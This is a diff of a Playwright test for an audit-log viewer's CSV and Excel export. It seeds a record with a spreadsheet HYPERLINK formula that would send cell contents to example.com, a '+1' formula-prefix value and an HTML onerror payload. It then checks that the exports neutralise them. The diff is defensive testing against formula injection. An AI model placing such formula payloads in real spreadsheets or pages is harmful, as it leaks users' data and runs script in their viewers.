@@ -2,6 +2,7 @@
 import { createHash } from 'node:crypto';
 import { readFile } from 'node:fs/promises';
 import type { Download, Page } from '@playwright/test';
+import Papa from 'papaparse';
 import {
   AuditStage,
   AUDITOR,
@@ -10,12 +11,28 @@ import {
   expect,
   SIZES,
   test,
+  USER,
   type Logged,
 } from './viewer-support';
 
+const FORMULA = '=HYPERLINK("https://example.com?"&A1)';
+const HOSTILE = '"><img src=x onerror=alert(1)>\r\n,';
+
 let stage: AuditStage;
+let hostile = 0;
 test.beforeAll(async () => {
   stage = await AuditStage.set({ records: 2_600, people: 12 });
+  // After everything else, and selected by no other test.
+  const at = new Date().toISOString();
+  const values = {
+    ...{ event_id: 'hostile', occurred_at: at, occurred_at_ms: at, action: 'portal', outcome: 'shown' },
+    ...{ user_code: '+1', user_name: FORMULA, record_title: HOSTILE, source: 'kintone-wide' },
+  };
+  const { id } = await stage.rest(USER).record.addRecord({
+    app: stage.logApp,
+    record: Object.fromEntries(Object.entries(values).map(([code, value]) => [code, { value }])),
+  });
+  hostile = Number(id);
 });
 test.afterAll(() => stage.close());
 
@@ -91,9 +108,33 @@ test('goes over pages in the order of time, as CSV and OCSF', async ({ page }) =
   expect(ids.map(({ unmapped }) => unmapped.id).filter((id) => id <= all.length)).toEqual(all);
   expect(ids.every(({ time }, index) => index === 0 || ids[index - 1]!.time <= time)).toBe(true);
 
-  await stage.open(page, '#/export;format=excel');
-  const { bytes } = await exported(page);
-  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+  const tables = async (format: string): Promise<string[][]> => {
+    await stage.open(page, `#/export;source=plugin;source=kintone-wide;format=${format}`);
+    const { bytes, text } = await exported(page);
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    return Papa.parse<string[]>(text.slice(1), { newline: '\r\n', skipEmptyLines: true }).data;
+  };
+  const right = [...all, hostile];
+  const [codes, ...rows] = await tables('csv');
+  const cell = (row: readonly string[], code: string): string => row[codes!.indexOf(code)]!;
+  const written = rows.filter((row) => cell(row, 'action') !== 'export');
+  expect(written.map((row) => Number(cell(row, 'id')))).toEqual(right);
+  for (const [index, { user_code, app_id, record_id }] of stage.entries.slice(0, 50).entries()) {
+    const row = rows.find((one) => cell(one, 'id') === String(index + 1))!;
+    expect([cell(row, 'user_code'), cell(row, 'app_id'), cell(row, 'record_id')]).toEqual(
+      [user_code, app_id, record_id].map((value) => String(value ?? '')),
+    );
+  }
+  const last = written.at(-1)!;
+  expect([cell(last, 'user_code'), cell(last, 'user_name'), cell(last, 'record_title')]).toEqual([
+    ...["'+1", `'${FORMULA}`, HOSTILE],
+  ]);
+  expect(cell(last, 'creator')).toBe(USER);
+
+  const [titles, ...people] = await tables('excel');
+  const read = people.filter((row) => row[titles!.indexOf('操作')] !== 'レコードの書き出し');
+  expect(read.map(([id]) => Number(id)).filter((id) => id <= hostile)).toEqual(right);
+  expect(read.find(([id]) => Number(id) === hostile)).toContain(`'${FORMULA}`);
 });
 
 test('stops at a failure and goes on to the same file; cancel leaves none', async ({ page }) => {
